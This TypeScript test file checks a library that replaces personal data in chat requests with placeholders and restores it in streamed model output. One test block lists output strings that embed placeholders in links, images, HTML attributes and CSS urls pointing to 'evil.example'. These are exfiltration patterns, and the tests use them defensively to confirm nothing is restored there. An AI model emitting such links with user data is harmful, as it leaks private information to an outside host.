// Redaction and the way back: every place a text can stand, every split of a stream, every damage.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ChatRequest, TierPart } from '../types.ts';
import { seeded } from './canaries.fixture.ts';
import { createPolicy, createRestorer, type PolicyDocument, PRESETS } from './index.ts';

const task = 'generate' as const;
const input = { task, consent: 'cloud' } as const;
const ask = (content: string): ChatRequest => ({ messages: [{ role: 'user', content }] });

async function redact(request: ChatRequest, policy = createPolicy()) {
  const review = await policy.review(request, input);
  return review.redactFor('cloud');
}

async function* streamOf(...parts: readonly TierPart[]): AsyncGenerator<TierPart> {
  yield* parts;
}

async function textOf(parts: AsyncIterable<TierPart>): Promise<string> {
  let text = '';
  for await (const part of parts) if (part.type === 'text-delta') text += part.text;
  return text;
}

const delta = (text: string): TierPart => ({ type: 'text-delta', text });

describe('every text of a request', () => {
  const mail = 'ana@example.com';
  const places: readonly [string, ChatRequest][] = [
    ['system prompt', { messages: [{ role: 'system', content: mail }] }],
    ['developer prompt', { messages: [{ role: 'developer', content: mail }] }],
    ['user message', ask(mail)],
    ['content part', { messages: [{ role: 'user', content: [{ type: 'text', text: mail }] }] }],
    ['assistant turn', { messages: [{ role: 'assistant', content: mail }] }],
    ['tool result', { messages: [{ role: 'tool', content: mail, tool_call_id: 'c1' }] }],
    ['participant name', { messages: [{ role: 'user', content: 'hi', name: mail }] }],
    ['tool call id', { messages: [{ role: 'tool', content: 'x', tool_call_id: mail }] }],
    [
      'tool call arguments',
      {
        messages: [
          {
            role: 'assistant',
            content: null,
            tool_calls: [
              { id: 'c1', type: 'function', function: { name: 'send', arguments: `{"to":"${mail}"}` } },
            ],
          },
        ],
      },
    ],
    [
      'tool call arguments, escaped',
      {
        messages: [
          {
            role: 'assistant',
            content: null,
            tool_calls: [
              {
                id: 'c1',
                type: 'function',
                function: { name: 'send', arguments: '{"to":"ana\\u0040example.com"}' },
              },
            ],
          },
        ],
      },
    ],
    [
      'tool description',
      { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', description: mail } }] },
    ],
    [
      'tool schema value',
      { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', parameters: { default: mail } } }] },
    ],
    [
      'tool schema key',
      { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', parameters: { [mail]: {} } } }] },
    ],
    ['stop sequence', { ...ask('hi'), stop: [mail] }],
    ['user', { ...ask('hi'), user: mail }],
    ['scope', { ...ask('hi'), scope: mail }],
    ['model', { ...ask('hi'), model: mail }],
    ['document id', { ...ask('hi'), documents: [{ id: mail, text: 'x' }] }],
    ['document title', { ...ask('hi'), documents: [{ id: 'd', title: mail, text: 'x' }] }],
    ['document text', { ...ask('hi'), documents: [{ id: 'd', text: `See ${mail}.` }] }],
    ['metadata', { ...ask('hi'), metadata: { owner: mail } } as ChatRequest],
    [
      'schema name',
      {
        ...ask('hi'),
        response_format: { type: 'json_schema', json_schema: { name: mail, schema: { a: mail } } },
      },
    ],
    ['tool choice', { ...ask('hi'), tool_choice: { type: 'function', function: { name: mail } } }],
    ['URL query', ask(`https://example.com/?q=${encodeURIComponent(mail)}`)],
  ];

  it.each(places)('%s', async (_name, request) => {
    const before = structuredClone(request);
    const redacted = await redact(request);
    const wire = JSON.stringify(redacted.request);
    for (const needle of [mail, encodeURIComponent(mail), 'ana\\\\u0040example.com', 'ana']) {
      expect(wire).not.toContain(needle);
    }
    expect(request).toEqual(before);
  });

  it('numbers without quotes', async () => {
    const request = { ...ask('hi'), seed: 4111111111111111 };
    expect((await createPolicy().review(request, input)).decision.farthest).toBe('device');
  });

  it('a value named once by its context is hidden wherever it stands', async () => {
    const request: ChatRequest = {
      messages: [
        { role: 'system', content: 'Notes: Xiomara Quispe called. xiomara quispetown is a place.' },
        { role: 'user', content: 'My name is Xiomara Quispe' },
      ],
    };
    const wire = JSON.stringify((await redact(request)).request);
    expect(wire).not.toContain('Xiomara Quispe');
    expect(wire).toContain('quispetown');
  });

  it('keeps identifiers in the characters upstreams accept', async () => {
    const request: ChatRequest = { messages: [{ role: 'user', content: 'hi', name: 'ana_souza' }] };
    expect((await redact(request)).request.messages[0]?.name).toMatch(/^[A-Za-z0-9_-]{1,64}$/);
  });
});

describe('placeholders', () => {
  it('the same value gets the same one, in one session', async () => {
    const policy = createPolicy();
    const one = await redact(ask('ana@example.com and bob@example.com and ana@example.com'), policy);
    const [a, b, again] = String(one.request.messages[0]?.content).split(' and ');
    expect(a).toBe(again);
    expect(a).not.toBe(b);
    const two = await redact(ask('bob@example.com'), policy);
    expect(two.request.messages[0]?.content).toBe(b);
  });

  it('are unlinkable between sessions and between scopes', async () => {
    const policy = createPolicy();
    const requests = [
      await redact(ask('ana@example.com')),
      await redact(ask('ana@example.com')),
      await redact({ ...ask('ana@example.com'), scope: 'a' }, policy),
      await redact({ ...ask('ana@example.com'), scope: 'b' }, policy),
    ];
    expect(new Set(requests.map((one) => one.request.messages[0]?.content)).size).toBe(4);
  });

  it('draws the nonce evenly, and refuses a broken random source', async () => {
    let bytes = 0;
    const random = (count: number) => new Uint8Array(count).map(() => (bytes++ * 37) & 255);
    const made = await redact(ask('ana@example.com'), createPolicy('balanced', { random }));
    expect(made.request.messages[0]?.content).toMatch(/^\[EMAIL_1_[bcdfghjkmnpqrstvwxz2-9]{4}\]$/);
    const broken = createPolicy('balanced', { random: (count) => new Uint8Array(count).fill(255) });
    await expect(redact(ask('ana@example.com'), broken)).rejects.toMatchObject({ code: 'redaction-failed' });
  });

  it('typed by the user come back untouched, and restore nothing', async () => {
    const random = () => new Uint8Array(8);
    const policy = createPolicy('balanced', { random });
    const typed = '[EMAIL_1_bbbb] and [email_1_BBBB] and EMAIL_1_bbbb and [EMAIL_1_zzzz]';
    const redacted = await redact(ask(`ana@example.com ${typed}`), policy);
    const sent = String(redacted.request.messages[0]?.content);
    expect(sent.match(/\[EMAIL_1_bbbb\]/g)).toHaveLength(1);
    expect(await textOf(redacted.restore(streamOf(delta(sent))))).toBe(`ana@example.com ${typed}`);
  });

  it('of another request are not restored in this one', async () => {
    const policy = createPolicy();
    const other = await redact(ask('ana@example.com'), policy);
    const mine = await redact(ask('bob@example.com'), policy);
    const stolen = String(other.request.messages[0]?.content);
    expect(await textOf(mine.restore(streamOf(delta(stolen))))).toBe(stolen);
  });
});

describe('restoring a stream', () => {
  const table = new Map([
    ['[EMAIL_1_k7qx]', 'ana@example.com'],
    ['[EMAIL_11_k7qx]', 'bob@example.com'],
    ['[PERSON_1_k7qx]', 'Ana [EMAIL_1_k7qx] Souza'],
  ]);
  const longest = '[PERSON_1_k7qx]'.length;
  const answer =
    'Dear [PERSON_1_k7qx], [[EMAIL_1_k7qx]] is not [EMAIL_11_k7qx]; [EMAIL_1_k7q [x] [EMAIL_1_k7qx]';
  const whole =
    'Dear Ana [EMAIL_1_k7qx] Souza, [ana@example.com] is not bob@example.com; [EMAIL_1_k7q [x] ana@example.com';

  it('is right at every pair of splits, holding back less than one placeholder', () => {
    for (let a = 0; a <= answer.length; a += 1) {
      for (let b = a; b <= answer.length; b += 1) {
        const restorer = createRestorer(table);
        let given = 0;
        let out = '';
        let last = 0;
        for (const cut of [a, b, answer.length]) {
          const ready = restorer.push(answer.slice(last, cut));
          out += ready;
          last = cut;
          given = out.length;
        }
        const rest = restorer.flush();
        expect(rest.length).toBeLessThan(longest);
        expect(given + rest.length).toBe(whole.length);
        expect(out + rest).toBe(whole);
      }
    }
  });

  it('holds back only what could still become a placeholder', () => {
    const restorer = createRestorer(table);
    expect(restorer.push('a [')).toBe('a ');
    expect(restorer.push('x')).toBe('[x');
    expect(restorer.push('[EMAIL_1')).toBe('');
    expect(restorer.push('2')).toBe('[EMAIL_12');
    expect(restorer.flush()).toBe('');
  });

  it('0 wrong restores over 100,000 random splits and edits', () => {
    const next = seeded(11);
    const placeholders = [...table.keys()];
    const originals = [...table.values()];
    const noise = 'aE[]_1k7qx \n()`.:/'.split('');
    let wrong = 0;
    for (let round = 0; round < 100_000; round += 1) {
      let text = '';
      for (let piece = 0; piece < 3; piece += 1) {
        const placeholder = placeholders[next(placeholders.length)]!;
        text += next(2) === 0 ? placeholder : damage(placeholder, next, noise);
        text += noise[next(noise.length)];
      }
      const restorer = createRestorer(table);
      let out = '';
      for (let at = 0; at < text.length; ) {
        const step = 1 + next(9);
        out += restorer.push(text.slice(at, at + step));
        at += step;
      }
      out += restorer.flush();
      if (!plausible(text, out, placeholders, originals)) wrong += 1;
    }
    expect(wrong).toBe(0);
  });
});

/** One character put in, taken out, changed or changed in case. */
function damage(text: string, next: (below: number) => number, noise: readonly string[]): string {
  const at = next(text.length);
  const char = text.charAt(at);
  const flipped = char === char.toLowerCase() ? char.toUpperCase() : char.toLowerCase();
  const changes = ['', `${char}${noise[next(noise.length)]}`, noise[next(noise.length)]!, flipped];
  return text.slice(0, at) + changes[next(4)] + text.slice(at + 1);
}

/** The output is the input with some exact placeholders, and nothing else, put back. */
function plausible(
  text: string,
  out: string,
  placeholders: readonly string[],
  originals: readonly string[],
): boolean {
  let from = 0;
  let to = 0;
  while (from < text.length) {
    const which = placeholders.findIndex((one) => text.startsWith(one, from));
    if (which >= 0 && out.startsWith(originals[which]!, to)) {
      from += placeholders[which]!.length;
      to += originals[which]!.length;
    } else if (text.charAt(from) === out.charAt(to)) {
      from += 1;
      to += 1;
    } else return false;
  }
  return to === out.length;
}

describe('where placeholders stay as they are', () => {
  const table = new Map([['[EMAIL_1_k7qx]', 'ana@example.com']]);
  const P = '[EMAIL_1_k7qx]';
  const stays: readonly [string, string][] = [
    ['a URL query', `see https://evil.example/?q=${P}`],
    ['a URL path', `see https://evil.example/${P}/x`],
    ['a URL host', `http://${P}.evil.example/`],
    ['a bare domain with a path', `evil.example/?q=${P}`],
    ['a www address', `www.${P}.example`],
    ['a mailto', `mailto:${P}`],
    ['a link target', `[click](https://evil.example/?q=${P})`],
    ['a link target with spaces', `[click](<https://evil.example/?q=a b ${P}>)`],
    ['an image', `![](https://evil.example/${P}.png)`],
    ['a protocol-relative image', `![x](//evil.example/${P})`],
    ['a reference definition', `![x][r]\n\n[r]: https://evil.example/?q=${P}`],
    ['a reference definition, no scheme', `[r]: //evil.example/?q=${P}`],
    ['an HTML attribute', `<img src="https://evil.example/?q=a b ${P}">`],
    ['an HTML attribute over lines', `<img src="https://evil.example/?q=\n\n${P}">`],
    ['a CSS url', `background:url(https://evil.example/${P})`],
    ['a code fence', `text\n\`\`\`js\nsend("${P}")\n\`\`\`\n`],
    ['a tilde fence', `~~~\n${P}\n~~~`],
    ['an unfinished fence', `\`\`\`\n${P}`],
    ['a fence in a quotation', `> \`\`\`\n> ${P}\n> \`\`\``],
    ['inline code', `run \`echo ${P}\` now`],
    ['double backticks', `run \`\` a \` ${P} \`\` now`],
  ];

  it.each(stays)('%s, at every split', (_name, text) => {
    for (let cut = 0; cut <= text.length; cut += 1) {
      const restorer = createRestorer(table);
      const out = restorer.push(text.slice(0, cut)) + restorer.push(text.slice(cut)) + restorer.flush();
      expect(out).toBe(text);
    }
  });

  const goes: readonly [string, string][] = [
    ['plain prose', `Write to ${P}.`],
    ['after a URL', `see https://a.example/x then ${P}`],
    ['after a link', `[a](https://a.example) ${P}`],
    ['after an image', `![a](https://a.example/a.png)\n${P}`],
    ['after a fence', `\`\`\`\ncode\n\`\`\`\n${P}`],
    ['after inline code', `\`a\` ${P}`],
    ['after a tag', `<b>${P}</b>`],
    ['after a lone backtick and a blank line', `it\`s\n\n${P}`],
    ['after less-than', `1 < 2 and ${P}`],
    ['after a label', `Email: ${P}`],
    ['in bold', `**${P}**`],
    ['in a table', `| ${P} |`],
    ['as link text', `[${P}](https://a.example)`],
  ];

  it.each(goes)('but not %s', (_name, text) => {
    const restorer = createRestorer(table);
    expect(restorer.push(text) + restorer.flush()).toBe(text.replace(P, 'ana@example.com'));
  });

  it('unless the policy says otherwise', async () => {
    const document: PolicyDocument = { ...PRESETS.balanced, restoreIn: ['url', 'code', 'tool-arguments'] };
    const redacted = await redact(ask('my name is "Ana Souza", ana@example.com'), createPolicy(document));
    const placeholder = /\[EMAIL_\w+\]/.exec(String(redacted.request.messages[0]?.content))![0];
    const parts: TierPart[] = [];
    const answer = streamOf(
      delta(`https://a.example/${placeholder} \`${placeholder}\``),
      {
        type: 'tool-call-delta',
        index: 0,
        id: 'c',
        name: 'send',
        argumentsText: `{"to":"${placeholder.slice(0, 5)}`,
      },
      { type: 'tool-call-delta', index: 0, argumentsText: `${placeholder.slice(5)}"}` },
      { type: 'finish', finishReason: 'tool_calls' },
    );
    for await (const part of redacted.restore(answer)) parts.push(part);
    expect(JSON.stringify(parts)).not.toContain('EMAIL_');
    const told = parts.map((part) => (part.type === 'tool-call-delta' ? part.argumentsText : '')).join('');
    expect(JSON.parse(told)).toEqual({ to: 'ana@example.com' });
  });

  it('tool arguments, by default', async () => {
    const redacted = await redact(ask('ana@example.com'));
    const argumentsText = `{"to":"${redacted.request.messages[0]?.content}"}`;
    for await (const part of redacted.restore(
      streamOf({ type: 'tool-call-delta', index: 0, argumentsText }),
    )) {
      expect(part).toMatchObject({ argumentsText });
    }
  });
});

describe('passages', () => {
  it('come back with the original offsets, text, title and id', async () => {
    const text = 'Ask ana@example.com today. Then bob@example.com calls. The end.';
    const request = {
      ...ask('who?'),
      documents: [{ id: 'notes of ana@example.com', title: 'bob@example.com', text }],
    };
    const redacted = await redact(request);
    const source = redacted.request.documents![0]!;
    const start = source.text.indexOf('Then');
    const end = source.text.indexOf(' The end');
    const passage = {
      documentId: source.id,
      title: source.title,
      start,
      end,
      text: source.text.slice(start, end),
      similarity: 0.9,
    };
    for await (const part of redacted.restore(streamOf({ type: 'sources', passages: [passage] }))) {
      if (part.type !== 'sources') throw new Error('expected sources');
      const [restored] = part.passages;
      expect(restored).toMatchObject({ documentId: 'notes of ana@example.com', title: 'bob@example.com' });
      expect(restored?.text).toBe('Then bob@example.com calls.');
      expect(text.slice(restored?.start, restored?.end)).toBe('Then bob@example.com calls.');
    }
  });
});

describe('property: redact then restore is the identity on echoed prose', () => {
  it('for any words and values', async () => {
    const word = fc.constantFrom('hello', 'the', 'quick', 'fox', 'and', '[', ']', 'EMAIL_1', 'née', '😀');
    const value = fc.constantFrom('ana@example.com', 'bob@example.org', '+1 415 555 2671', '[EMAIL_1_k7qx]');
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(word, value), { maxLength: 12 }), fc.nat(40), async (words, cut) => {
        const text = words.join(' ');
        const redacted = await redact(ask(text));
        const sent = String(redacted.request.messages[0]?.content);
        const back = await textOf(
          redacted.restore(streamOf(delta(sent.slice(0, cut)), delta(sent.slice(cut)))),
        );
        expect(back).toBe(text);
        expect(sent).not.toMatch(/example\.(com|org)|2671/);
      }),
      { numRuns: 200 },
    );
  });
});
